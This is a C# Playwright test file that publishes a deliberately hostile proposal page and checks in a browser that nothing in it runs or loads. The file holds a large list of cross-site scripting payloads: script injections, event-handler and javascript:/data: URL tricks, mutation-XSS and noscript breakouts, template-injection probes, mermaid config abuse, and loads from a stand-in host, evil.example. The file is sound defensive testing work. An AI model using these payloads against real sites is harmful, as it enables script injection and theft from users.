using Microsoft.Playwright;
using NUnit.Framework;

namespace Dep.Publishing.Tests;

/// <summary>A proposal of somebody who means ill, in a browser: nothing of it runs, and the page is the page.</summary>
[Category("Browser")]
public sealed class HostileProposalTests
{
    private const string Run = "window.pwned=1";

    private static readonly string Body = $$$"""
        # Scripts

        <script>{{{Run}}}</script>
        <ScRiPt src="https://evil.example/x.js"></ScRiPt>
        <img src=x onerror="{{{Run}}}"> <svg onload="{{{Run}}}"><script>{{{Run}}}</script></svg>
        <iframe src="javascript:{{{Run}}}"></iframe><iframe srcdoc="<script>{{{Run}}}</script>"></iframe>
        <object data="data:text/html,<script>{{{Run}}}</script>"></object><embed src="javascript:{{{Run}}}">
        <body onload="{{{Run}}}"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
        <link rel="stylesheet" href="https://evil.example/x.css"><style>body { display: none } @import url(https://evil.example/y.css);</style>
        <form action="https://evil.example/"><input name="q" autofocus onfocus="{{{Run}}}"><button>Go</button></form>
        <details open ontoggle="{{{Run}}}"><summary>more</summary>text</details>
        <video src="https://evil.example/v.mp4" onerror="{{{Run}}}" autoplay></video><audio src=x onerror="{{{Run}}}"></audio>
        <math><mtext><table><mglyph><style><img src=x onerror="{{{Run}}}"></style></mglyph></table></mtext></math>
        <noscript><p title="</noscript><img src=x onerror={{{Run}}}>"></noscript>
        <a href="java&#x0A;script:{{{Run}}}">newline</a> <a href="&#106;avascript:{{{Run}}}">entity</a> <a href=" javascript:{{{Run}}}">blank</a>
        <a href="vbscript:x">vb</a> <a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==">data</a>
        <div style="position:fixed;inset:0;background:red" class="top" id="dep:main">over all</div> <p id="dep:search" class="skip">id</p>
        <textarea></main><h1>swallowed</textarea> <title>x</title> <plaintext> <xmp>

        [link](javascript:{{{Run}}}) [link](JaVaScRiPt:{{{Run}}}) [link](data:text/html,<script>{{{Run}}}</script>) [<img src=x onerror={{{Run}}}>](https://example.com)
        ![image](javascript:{{{Run}}}) ![image" onerror="{{{Run}}}](x.png) ![remote](https://evil.example/pixel.png "title\" onload=\"{{{Run}}}")
        <https://evil.example/"onmouseover="{{{Run}}}> [ref]

        [ref]: javascript:{{{Run}}} "x"

        </div></main></body></html><main><h1>another page</h1>

        | <script>{{{Run}}}</script> | </table></div></main> |
        |---|---|
        | `</script>` | <img src=x onerror={{{Run}}}> |

        {{ 7 | times: 6 }} {% for i in (1..1000000) %}x{% endfor %} {{ site.Title }} ${7*6} <%= 7*6 %>

        ```html </code></pre><script>{{{Run}}}</script>
        </code></pre><script>{{{Run}}}</script>
        ```

        ```mermaid
        %%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { position: fixed; inset: 0; background: url(https://evil.example/css) }"}}%%
        flowchart TD
          A["<img src=x onerror='parent.{{{Run}}};{{{Run}}}'>"] --> B["<script>{{{Run}}}</script>"]
          click A href "javascript:{{{Run}}}"
          click B call alert("x")
        ```

        ```mermaid
        </code></pre><script>{{{Run}}}</script> --> "
        ```

        ## <img src=x onerror="{{{Run}}}"> "heading" <script>{{{Run}}}</script>

        A line separator:{{{"\u2028"}}} a paragraph separator:{{{"\u2029"}}} an override:{{{"\u202E"}}}dlrow a null &#0; </script><!-- --!> <script>{{{Run}}}</script>
        """;

    private PublishedSite? _site;

    private PublishedSite Site => _site!;

    [OneTimeSetUp]
    public void Publish()
    {
        const string Title = "</title></h1><script>" + Run + "</script><img src=x onerror=" + Run + "> {{ 7 | times: 6 }} \u2028 \" ' & <b>bold</b>";
        _site = new PublishedSite();
        Site.WriteTemplate();
        Site.WriteProposal("0001-tame.md", "Tame", "Approved");
        Site.Write(
            "deps/0002-hostile.md",
            $"# {Title}\n\n**Status**: Draft <img src=x onerror={Run}>\n\n**Authors**: <script>{Run}</script>, [x](javascript:{Run}), \"><img src=x onerror={Run}>\n\n"
                + $"**Category**: \"><script>{Run}</script>\n\n**Replaces**: [<img src=x onerror={Run}>](0001-tame.md)\n\n**On<img src=x onerror={Run}>**: x\n\n# Summary\n\n# Motivation\n\n"
                + Body
        );
        Site.WriteProposal("0003-tail.md", "Tail", "</script><script>" + Run + "</script>");
        // Windows has no files of such names, so that there the other ways in must do.
        if (!OperatingSystem.IsWindows())
        {
            Site.WriteProposal("0004-\"><img src=x onerror=" + Run + ">.md", "Name", body: "[to it](0002-hostile.md)");
            Site.WriteProposal("0005-{{ 7 }}<script>.md", "Braces");
        }

        Site.Write("README.md", $"# {Title}\n");
        Site.Commit("2026-01-05");
        Site.Publish(findings: true);
        Assert.That(Site.Result.Failure, Is.Null);
    }

    [OneTimeTearDown]
    public void Delete() => _site?.Dispose();

    [Test]
    public async Task NothingRunsNothingIsLoadedAndThePageIsThePage()
    {
        await using var page = await Browser.Open();
        foreach (var file in Directory.GetFiles(Site.Folder, "*.html").Concat(Directory.GetFiles(Site.At("proposals"))).Order(StringComparer.Ordinal))
        {
            await page.Visit(file);
            await AssertTame(page, file);
        }

        page.AssertQuiet(IsRefusalInFrame);
    }

    [Test]
    public async Task DiagramsRunNothing()
    {
        await using var page = await Browser.Open();
        await page.Visit(Hostile);
        await Assertions.Expect(page.Page.Locator(".diagram[data-state]")).ToHaveCountAsync(2, new() { Timeout = 60_000 });
        foreach (var frame in page.Page.Frames)
        {
            Assert.That(await frame.EvaluateAsync<bool>("'pwned' in window"), Is.False);
        }

        await AssertTame(page, Hostile);
        page.AssertQuiet(IsRefusalInFrame);
    }

    [Test]
    public async Task TheHostileProposalIsFoundAndFilteredAsAnyOther()
    {
        await using var page = await Browser.Open();
        await page.Visit(Site.At("index.html"));
        await page.Page.GetByLabel("Search titles and text").FillAsync("times: 6");
        await Assertions.Expect(page.Page.Locator("[data-dep-table] tbody tr:visible")).ToHaveCountAsync(1);
        await page.Visit(Site.At("index.html"), "#q=%3Cscript%3Ewindow.pwned%3D1%3C/script%3E&status=%22%5D");
        await AssertTame(page, "index.html");
        page.AssertQuiet();
    }

    [Test]
    public async Task EveryLinkMayBeFollowed()
    {
        await using var page = await Browser.Open();
        await page.Visit(Hostile);
        var targets = await page.Page.Locator("a[href]").EvaluateAllAsync<string[]>("all => all.map((link) => link.protocol)");
        Assert.That(targets.Distinct(), Is.SubsetOf(new[] { "file:", "https:", "http:", "mailto:" }));
    }

    [Test]
    public async Task WithoutScriptThePagesAreWhole()
    {
        await using var page = await Browser.Open();
        await page.Page.Context.RouteAsync("**/*.js", route => route.AbortAsync());
        await page.Visit(Site.At("index.html"));
        await Assertions.Expect(page.Page.Locator("[data-dep-table] tbody tr a").First).ToBeVisibleAsync();
        await Assertions.Expect(page.Page.Locator("[data-dep-filter]")).ToBeHiddenAsync();
    }

    private string Hostile => Site.At("proposals/0002-hostile.html");

    // The frame's own policy refuses what a diagram tries; that is the policy at work, and its console says so.
    private static bool IsRefusalInFrame(string fault) =>
        fault.Contains("Content Security Policy", StringComparison.Ordinal) && fault.Contains("sha256-", StringComparison.Ordinal);

    private static async Task AssertTame(WatchedPage page, string file)
    {
        Assert.That(await page.Page.EvaluateAsync<bool>("'pwned' in window"), Is.False, file);
        var shape = await page.Page.EvaluateAsync<string>(
            """
            () => JSON.stringify({
              children: [...document.body.children].map((child) => child.tagName + (child.className ? "." + child.className : "")).filter((child) => !child.startsWith("IFRAME")),
              h1: document.querySelectorAll("h1").length,
              main: document.querySelectorAll("main").length,
              forms: document.querySelectorAll("form:not([data-dep-filter])").length,
              scripts: [...document.querySelectorAll("script")].filter((script) => !/\/(assets\/(site|theme|search|table|words)|search\/[a-z0-9_.-]+)\.js$/.test(script.src)).length,
              handlers: [...document.querySelectorAll("*")].filter((element) => [...element.attributes].some((attribute) => attribute.name.startsWith("on") || attribute.name === "style")).length,
              overflow: document.documentElement.scrollWidth > document.documentElement.clientWidth,
              turned: /[\u202A-\u202E\u2066-\u2069]/.test(document.body.textContent),
              own: [...document.querySelectorAll("[id='dep:main']")].length,
              strange: document.querySelectorAll("base, object, embed, style, link[rel=stylesheet]:not([href$='assets/site.css']), main svg:not(.cycle-drawing), textarea, title ~ title").length,
            })
            """
        );
        Assert.That(
            shape,
            Is.EqualTo(
                """{"children":["A.skip","HEADER.top","MAIN","FOOTER.bottom"],"h1":1,"main":1,"forms":0,"scripts":0,"handlers":0,"overflow":false,"turned":false,"own":1,"strange":0}"""
            ),
            file
        );
    }
}
